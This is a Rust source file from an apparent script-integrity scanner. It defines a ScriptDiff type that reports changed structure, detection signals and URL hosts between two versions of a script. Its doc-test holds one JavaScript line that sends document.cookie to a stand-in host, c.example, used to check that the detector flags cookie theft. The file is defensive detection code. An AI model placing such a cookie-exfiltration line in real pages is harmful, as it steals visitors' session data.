//! What changed between two versions of a script.

use std::collections::BTreeSet;

use crate::ScriptReport;

/// What a version has that the one before had not, and the reverse. All lists are sorted.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
#[non_exhaustive]
pub struct ScriptDiff {
    /// Whether the structural hashes differ: calls, members or operators changed, not only literals, names and layout.
    pub structure_changed: bool,
    /// Ids of signals that only the later version has.
    pub signals_appeared: Vec<String>,
    /// Ids of signals that only the earlier version has.
    pub signals_gone: Vec<String>,
    /// Hosts of URLs that only the later version has, decoded strings included.
    pub hosts_appeared: Vec<String>,
    /// Hosts of URLs that only the earlier version has.
    pub hosts_gone: Vec<String>,
}

impl ScriptDiff {
    /// Compares the reports of two versions. They may come from different models.
    ///
    /// ```
    /// # #[cfg(feature = "bundled-model")] {
    /// use jsintegrity::{ScriptDiff, Scorer};
    ///
    /// let scorer = Scorer::bundled()?;
    /// let before = scorer.score(b"track('https://a.example/t')")?;
    /// let after = scorer.score(b"track('https://a.example/t');new Image().src='https://c.example/?'+document.cookie")?;
    /// let diff = ScriptDiff::between(&before, &after);
    /// assert!(diff.structure_changed);
    /// assert_eq!(diff.hosts_appeared, ["c.example"]);
    /// assert!(diff.signals_appeared.contains(&"cookies-sent-abroad".to_owned()));
    /// # }
    /// # Ok::<(), jsintegrity::Error>(())
    /// ```
    #[must_use]
    pub fn between(earlier: &ScriptReport, later: &ScriptReport) -> Self {
        let signals = |report: &ScriptReport| {
            report.findings.iter().map(|finding| finding.signal.to_owned()).collect::<BTreeSet<String>>()
        };
        let only =
            |these: &BTreeSet<String>, others: &BTreeSet<String>| these.difference(others).cloned().collect();
        let (signals_before, signals_after) = (signals(earlier), signals(later));
        let (hosts_before, hosts_after) = (earlier.hosts(), later.hosts());
        Self {
            structure_changed: earlier.digests.structural != later.digests.structural,
            signals_appeared: only(&signals_after, &signals_before),
            signals_gone: only(&signals_before, &signals_after),
            hosts_appeared: only(&hosts_after, &hosts_before),
            hosts_gone: only(&hosts_before, &hosts_after),
        }
    }

    /// Whether both versions have the same structure, signals and hosts.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        let lists = [&self.signals_appeared, &self.signals_gone, &self.hosts_appeared, &self.hosts_gone];
        !self.structure_changed && lists.iter().all(|list| list.is_empty())
    }
}
